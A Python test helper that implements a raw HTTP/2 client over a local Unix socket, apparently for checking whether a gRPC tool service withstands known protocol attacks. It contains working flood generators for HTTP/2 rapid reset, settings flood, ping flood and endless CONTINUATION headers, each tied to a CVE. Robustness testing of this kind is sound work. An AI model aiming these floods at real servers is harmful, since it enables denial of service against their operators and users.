"""A raw HTTP/2 client for frames that no client library sends.

Frames: RFC 9113, section 4.1. Headers: RFC 7541, section 6.2.2, always as literals.
"""

from __future__ import annotations

import socket
import struct
from collections.abc import Iterator

from attempts import SOCKET

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = range(5)
PING, WINDOW_UPDATE, CONTINUATION = 6, 8, 9
END_HEADERS = 4
FRAMES = 40_000
"""Frames of a flood."""
TIMEOUT_S = 2.0
"""Time in which the server must read; afterwards the connection counts as closed, seconds."""
CALL = "/fumehood.v1.ToolService/CallTool"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: str, value: bytes | str) -> bytes:
    """Return one header field, not indexed."""
    text = value.encode() if isinstance(value, str) else value
    return b"\0" + _string(name.encode()) + _string(text)


def request_headers(path: str = CALL, extra: bytes = b"") -> bytes:
    """Return the header block of a call."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost"}
    fields |= {"content-type": "application/grpc", "te": "trailers"}
    return b"".join(header(*field) for field in fields.items()) + extra


def open_stream(
    stream: int, path: str = CALL, extra: bytes = b"", flags: int = END_HEADERS
) -> bytes:
    """Return the frame that begins a call."""
    return frame(HEADERS, flags, stream, request_headers(path, extra))


def message(payload: bytes, *, packed: bool = False, length: int | None = None) -> bytes:
    """Return a gRPC message: a byte that states compression, four bytes of length, the payload."""
    return struct.pack(">BI", packed, len(payload) if length is None else length) + payload


class Connection:
    """A connection on which any bytes can be sent."""

    def __init__(self, *, polite: bool = True) -> None:
        self._socket = socket.socket(socket.AF_UNIX)
        self._socket.settimeout(TIMEOUT_S)
        self._socket.connect(SOCKET)
        if polite:
            self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, octets: bytes) -> None:
        """Send all bytes; raises OSError if the server has closed or does not read."""
        self._socket.sendall(octets)

    def receive(self, timeout_s: float = 1.0, until: bytes = b"") -> bytes:
        """Return the received bytes, up to ``until``, or until the timeout."""
        received = b""
        self._socket.settimeout(timeout_s)
        try:
            while piece := self._socket.recv(65536):
                received += piece
                if until and until in received:
                    break
        except OSError:
            pass
        self._socket.settimeout(TIMEOUT_S)
        return received

    def is_open(self) -> bool:
        """Return whether a ping is answered."""
        try:
            self.send(frame(PING, 0, 0, b"are-you?"))
        except OSError:
            return False
        return b"are-you?" in self.receive(1.0, until=b"are-you?")

    def close(self) -> None:
        """Close the connection."""
        self._socket.close()


def rapid_resets() -> Iterator[bytes]:
    """Begin and cancel calls (CVE-2023-44487)."""
    for stream in range(1, 2 * FRAMES, 2):
        yield open_stream(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def settings() -> Iterator[bytes]:
    """Change a setting repeatedly; the server must acknowledge each change (CVE-2019-9515)."""
    for number in range(FRAMES):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + number % 2))


def pings() -> Iterator[bytes]:
    """Send pings without end (CVE-2019-9512)."""
    for number in range(FRAMES):
        yield frame(PING, 0, 0, struct.pack(">Q", number))


def endless_headers() -> Iterator[bytes]:
    """Send headers that never end (such as CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, request_headers())
    for number in range(FRAMES):
        yield frame(CONTINUATION, 0, 1, header(f"x-{number}", "y" * 200))


def _string(text: bytes) -> bytes:
    return _integer(len(text)) + text


def _integer(value: int) -> bytes:
    # RFC 7541, section 5.1, with a prefix of seven bits.
    if value < 127:
        return bytes([value])
    octets, value = bytearray([127]), value - 127
    while value >= 128:
        octets.append(value % 128 + 128)
        value //= 128
    return bytes([*octets, value])
